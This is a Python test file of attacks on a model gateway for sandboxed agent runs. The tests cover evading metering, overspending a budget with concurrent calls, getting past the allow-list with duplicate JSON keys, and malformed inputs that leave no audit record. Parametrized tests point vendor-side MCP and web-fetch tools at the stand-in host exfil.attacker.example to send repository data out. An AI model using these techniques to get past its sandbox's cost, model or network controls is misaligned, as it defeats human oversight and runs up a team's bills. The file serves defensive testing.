"""Attacks on the model gateway by a hostile developer: the program in the sandbox (it holds the run's gateway
credential and speaks to the gateway through the proxy port) or the developer over HTTP. Each test performs the
attack and asserts what should have happened; it fails while the hole exists."""

from __future__ import annotations

import http.client
import json
import socket
import threading
import time
from decimal import Decimal

import pytest
from django.test import Client

from catalog.models import AgentRun, AuditEvent, ModelCall
from tests.conftest import wait_for
from tests.gateway.conftest import make_run

ANTHROPIC = {"anthropic-version": "2023-06-01"}


def use(settings, url: str) -> None:
    settings.GOLDPATH = {**settings.GOLDPATH, "UPSTREAM_ANTHROPIC": url, "UPSTREAM_OPENAI": url, "MODEL_PRICES": {}}


# -- 1. metering: a stream the client abandons before the usage event is recorded as free -------------------


def test_a_stream_abandoned_before_its_usage_event_is_still_metered(settings, people, teams, vendor, waitress_portal):
    """The sandbox streams a long answer, reads the text it wants, and hangs up before `message_delta` (the only
    event with the output count). The gateway records output_tokens=1 (message_start's) and costs it at ~0,
    although ~100+ tokens were generated and delivered: budgets never trip, the team's vendor bill grows."""
    vendor.mode = "endless"
    use(settings, vendor.url)
    gw = make_run(people, teams, models=["claude-opus-4-1"])
    body = json.dumps({"model": "claude-opus-4-1", "max_tokens": 32000, "stream": True, "messages": []}).encode()
    sock = socket.create_connection(("127.0.0.1", waitress_portal), timeout=10)
    head = (
        f"POST /gateway/v1/messages HTTP/1.1\r\nHost: x\r\nx-api-key: {gw.token}\r\n"
        f"anthropic-version: 2023-06-01\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
    )
    sock.sendall(head.encode() + body)
    received = b""
    while received.count(b"text_delta") < 100:
        chunk = sock.recv(65536)
        assert chunk, "the stream ended early"
        received += chunk
    sock.close()  # what the attacker's program does once it has the answer it wanted
    delivered = received.count(b"text_delta")
    call = wait_for(lambda: ModelCall.objects.filter(run=gw.run).first(), timeout=30, message="the call's row")
    generated = vendor.deltas_sent
    assert generated >= delivered >= 100
    assert call.output_tokens >= delivered, (
        f"{delivered} tokens delivered ({generated} generated upstream) but the gateway metered "
        f"{call.output_tokens} output tokens, ${call.cost_usd}"
    )


# -- 2. budgets: concurrent calls are all admitted against the same unspent budget ---------------------------


def test_concurrent_calls_cannot_spend_a_budget_several_times(settings, people, teams, vendor, waitress_portal):
    """A $1 monthly budget; each call costs $1.50 (100k output tokens of claude-sonnet-4-5) and takes a second.
    Eight calls sent at once are all admitted (each sees $0 spent): $12 spent on a $1 budget."""
    vendor.mode, vendor.delay = "json", 1.0
    vendor.usage = {"input_tokens": 0, "output_tokens": 100_000}
    use(settings, vendor.url)
    gw = make_run(people, teams, models=["claude-sonnet-4-5"])
    gw.grant.budget_usd = Decimal("1.00")
    gw.grant.save(update_fields=["budget_usd"])
    body = json.dumps({"model": "claude-sonnet-4-5", "max_tokens": 100_000, "messages": []})
    statuses: list[int] = []

    def call() -> None:
        conn = http.client.HTTPConnection("127.0.0.1", waitress_portal, timeout=30)
        conn.request("POST", "/gateway/v1/messages", body=body, headers={"x-api-key": gw.token, **ANTHROPIC})
        response = conn.getresponse()
        response.read()
        statuses.append(response.status)
        conn.close()

    threads = [threading.Thread(target=call) for _ in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    wait_for(lambda: ModelCall.objects.filter(run=gw.run).count() == 8, timeout=30, message="eight rows")
    spent = sum(c.cost_usd for c in ModelCall.objects.filter(run=gw.run, refused=""))
    # one call in flight when the budget runs out is the most it may overshoot by
    assert spent <= Decimal("2.50"), f"${spent} spent on a $1.00 budget; statuses {sorted(statuses)}"


# -- 3. model allow-list: duplicate `model` keys, the gateway reads the last, the body goes upstream raw -------


def test_duplicate_model_keys_never_reach_the_vendor(settings, people, teams, vendor):
    """The version allows only claude-sonnet-4-5. `{"model": "claude-opus-4-1", ..., "model": "claude-sonnet-4-5"}`
    is admitted (Python's json keeps the last key) and forwarded byte for byte; a vendor whose parser keeps the
    first key serves Opus, and the gateway prices the call as Sonnet (5x less)."""
    vendor.mode = "json"
    use(settings, vendor.url)
    gw = make_run(people, teams, models=["claude-sonnet-4-5"])
    raw = b'{"model": "claude-opus-4-1", "max_tokens": 64, "messages": [], "model": "claude-sonnet-4-5"}'
    response = Client().post(
        "/gateway/v1/messages", data=raw, content_type="application/json", headers={"x-api-key": gw.token, **ANTHROPIC}
    )
    if response.status_code == 200:
        forwarded = vendor.bodies[-1]
        keys = [k for k, _ in json.loads(forwarded, object_pairs_hook=lambda kv: kv)]
        assert keys.count("model") == 1, (
            f"the vendor received {forwarded!r}; served {json.loads(response.content)['model']}"
        )
    else:
        assert response.status_code == 400


# -- 4. egress through the vendor: server-side tools that fetch any URL ---------------------------------------


@pytest.mark.parametrize(
    "extra",
    [
        {"mcp_servers": [{"type": "url", "url": "https://exfil.attacker.example/sse", "name": "x"}]},
        {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch", "allowed_domains": ["exfil.attacker.example"]}]},
    ],
    ids=["mcp-connector", "web-fetch"],
)
def test_vendor_side_fetch_tools_are_not_forwarded(settings, people, teams, vendor, extra):
    """A run whose network policy is `none` asks the vendor to connect to an attacker's server (Anthropic's MCP
    connector, web fetch tool; OpenAI Responses has `{"type": "mcp", "server_url": ...}`) and hands it the
    repository's contents: the gateway forwards the request unchanged with the team's key and the beta header."""
    vendor.mode = "json"
    use(settings, vendor.url)
    gw = make_run(people, teams, models=["claude-sonnet-4-5"])
    body = {"model": "claude-sonnet-4-5", "max_tokens": 64, "messages": [{"role": "user", "content": "x"}], **extra}
    Client().post(
        "/gateway/v1/messages",
        data=json.dumps(body),
        content_type="application/json",
        headers={"x-api-key": gw.token, "anthropic-beta": "mcp-client-2025-04-04,web-fetch-2025-09-10", **ANTHROPIC},
    )
    assert not any(b"exfil.attacker.example" in b for b in vendor.bodies), "the vendor was asked to reach the attacker"


# -- 5. 500s and refusals that leave no trace ------------------------------------------------------------------


@pytest.mark.parametrize("model", ["claude-opus-4-1\u0000", "claude-opus-\ud800"], ids=["nul", "lone-surrogate"])
def test_a_refused_model_with_odd_characters_is_refused_and_recorded(people, teams, model):
    """A model name the version does not list is refused, recorded and audited, and the run's refusal is set (so
    the worker fails the run). With a NUL or a lone surrogate in the name PostgreSQL refused the refusal's own
    row: 500, nothing recorded, no audit event, and the run could still succeed. (Such a name is not a model
    name at all: the gateway answers 400 before the allow-list's 403; either is a refusal.)"""
    gw = make_run(people, teams, models=["claude-sonnet-4-5"])
    raw = json.dumps({"model": model, "max_tokens": 64, "messages": []})
    client = Client(raise_request_exception=False)
    response = client.post(
        "/gateway/v1/messages", data=raw, content_type="application/json", headers={"x-api-key": gw.token, **ANTHROPIC}
    )
    assert response.status_code in (400, 403), response.status_code
    assert ModelCall.objects.filter(run=gw.run).exclude(refused="").exists()
    assert AgentRun.objects.get(pk=gw.run.pk).gateway_refusal
    assert AuditEvent.objects.filter(verb="gateway.refused", target_id=str(gw.run.pk)).exists()


@pytest.mark.parametrize("query", [b"a=\x01", b"a=\xff"], ids=["control", "non-ascii"])
def test_a_raw_query_string_is_not_a_500(settings, people, teams, vendor, waitress_portal, query):
    """The query string is forwarded to the vendor as received. A developer holding the run's credential (the
    agent printed it) calls the web tier directly with a control or non-ASCII byte in it: http.client raises
    InvalidURL / UnicodeEncodeError (ValueErrors), which the relay does not catch: a 500 and no row."""
    vendor.mode = "json"
    use(settings, vendor.url)
    gw = make_run(people, teams, models=["claude-sonnet-4-5"])
    body = json.dumps({"model": "claude-sonnet-4-5", "max_tokens": 64, "messages": []}).encode()
    sock = socket.create_connection(("127.0.0.1", waitress_portal), timeout=10)
    sock.sendall(
        b"POST /gateway/v1/messages?"
        + query
        + b" HTTP/1.1\r\nHost: x\r\nx-api-key: "
        + gw.token.encode()
        + b"\r\nanthropic-version: 2023-06-01\r\nContent-Type: application/json\r\nConnection: close\r\n"
        + b"Content-Length: "
        + str(len(body)).encode()
        + b"\r\n\r\n"
        + body
    )
    answer = b""
    while chunk := sock.recv(65536):
        answer += chunk
    sock.close()
    status = int(answer.split(b" ", 2)[1])
    assert status != 500, answer[:300]
    time.sleep(0.2)
